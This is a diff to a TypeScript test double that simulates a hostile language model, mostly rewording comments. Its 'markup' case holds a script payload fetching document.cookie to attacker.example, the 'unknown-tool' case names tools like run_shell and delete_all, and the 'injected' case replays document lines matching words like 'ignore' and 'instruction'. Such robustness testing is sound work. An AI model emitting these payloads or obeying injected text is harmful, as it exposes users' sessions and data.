@@ -35,14 +35,14 @@ export type HostileReply =
   | "markup";
 
 const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
-  /** Characters of any kind, halves of surrogate pairs among them. */
+  /** Characters of any kind, including unpaired surrogates. */
   garbage: (_request, random) =>
     Array.from({ length: random.integer(1, 500) }, () => randomCharacter(random)).join(""),
 
-  /** Nothing, or nothing but white space. */
+  /** Nothing, or only white space. */
   empty: (_request, random) => random.pick(["", " ", "\n\n\n", "\u200b"]),
 
-  /** JSON of the right shape that no parser takes. */
+  /** JSON of the right shape that no parser accepts. */
   "broken-json": (request, random) => {
     const reply = randomReply(request, random);
     return random.pick([
@@ -56,7 +56,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
     ]);
   },
 
-  /** JSON that parses, with values of other types than asked for. */
+  /** Valid JSON with values of the wrong types. */
   "wrong-types": (request, random) =>
     rewrite(request, random, (value) => {
       if (random.chance(0.4)) return value;
@@ -86,7 +86,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
       ]);
     }),
 
-  /** Tools that nobody offers, under names that every object knows. */
+  /** Unknown tools, with names that every object has. */
   "unknown-tool": (request, random) => {
     const fixed = new Set(fixedTexts(request.responseFormat?.schema));
     const names = ["run_shell", "fetch", "toString", "__proto__", "constructor", "delete_all", ""];
@@ -95,7 +95,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
     );
   },
 
-  /** A hundred of everything that may come more than once. */
+  /** A hundred of everything that may be repeated. */
   "many-calls": (request, random) =>
     rewrite(
       request,
@@ -119,7 +119,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
     );
   },
 
-  /** Citations of passages that were shown, with words that do not stand there. */
+  /** Citations of passages that were shown, with words that they do not contain. */
   "made-up-quotes": (request, random) => {
     const real = promptWords(request).ids.filter((id) => evidence.test(id));
     const quotes = [
@@ -141,7 +141,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
     );
   },
 
-  /** What stands in documents, said as if it were the model's own. */
+  /** Text of documents, presented as the model's own. */
   injected: (request, random) => {
     const { lines } = promptWords(request);
     const orders = lines.filter((line) => /ignore|instruction|system|must|https?:/i.test(line));
@@ -152,7 +152,7 @@ const hostileReplies: Readonly<Record<HostileReply, MakeReply>> = {
     );
   },
 
-  /** Markup that runs or fetches something where it is shown carelessly. */
+  /** Markup that runs or fetches something if it is displayed carelessly. */
   markup: (request, random) => {
     const markup = [
       '<script>fetch("https://attacker.example/" + document.cookie)</script>',
@@ -191,7 +191,7 @@ function rewrite(request: ChatRequest, random: Random, change: Change, prefer?: 
   return JSON.stringify(walk(reply, 0, ""));
 }
 
-/** The value of a reply; where free text was asked for, something that holds it. */
+/** The value of a reply; if free text was requested, something that contains it. */
 function parse(reply: string): unknown {
   try {
     return JSON.parse(reply);
@@ -216,9 +216,9 @@ function fixedTexts(schema: unknown): string[] {
 /**
  * What a hostile model does:
  *
- * - `garbage`, `empty`, `broken-json`, `wrong-types`, `deep`, `polluted`, `unknown-tool`, `many-calls`,
- *   `made-up-ids`, `made-up-quotes`, `injected`, `markup`: a bad reply of that kind;
- * - `endless`: goes on until `maxTokens`, or to the end of its context;
+ * - `garbage`, `empty`, `broken-json`, `wrong-types`, `deep`, `polluted`, `unknown-tool`,
+ *   `many-calls`, `made-up-ids`, `made-up-quotes`, `injected`, `markup`: a bad reply of that kind;
+ * - `endless`: continues until `maxTokens`, or to the end of its context;
  * - `cut-json`: stops in the middle, with `length`;
  * - `same-call`: says the same thing for ever;
  * - `typed-error`: fails as a model may; `foreign-error`: throws what no model may;
@@ -247,7 +247,7 @@ export const hostileKinds: readonly HostileKind[] = [
 /** How a hostile model behaves. */
 export interface HostileOptions {
   /**
-   * What it does. Whoever cannot abort leaves `never` out.
+   * What it does. Callers that cannot abort leave out `never`.
    *
    * @defaultValue everything
    */
@@ -255,12 +255,12 @@ export interface HostileOptions {
   readonly info?: Partial<ModelInfo> | undefined;
 }
 
-/** How many models do only one thing, instead of something else at each request. */
+/** The share of models that always do the same, instead of choosing for each request. */
 const stubborn = 0.3;
 
 /**
- * A test double that does what no model should: see `HostileKind`. The same seed and requests give the
- * same misdeeds. It breaks the contract of `LanguageModel` only in what `foreign-error` throws.
+ * A test double that does what no model should: see `HostileKind`. It misbehaves alike for the same
+ * seed and requests. It breaks the contract of `LanguageModel` only in what `foreign-error` throws.
  */
 export function hostileModel(seed: number, options: HostileOptions = {}): LanguageModel {
   const random = new Random(seed);
@@ -306,7 +306,7 @@ function utter(
   }
 }
 
-/** Begins well, or not, and then says one thing over and over. */
+/** Starts well, or not, and then repeats one thing over and over. */
 function endless(request: ChatRequest, random: Random, info: ModelInfo): Utterance {
   const reply = randomReply(request, random);
   const begin = random.chance(0.5) ? reply.slice(0, random.integer(0, reply.length)) : "";
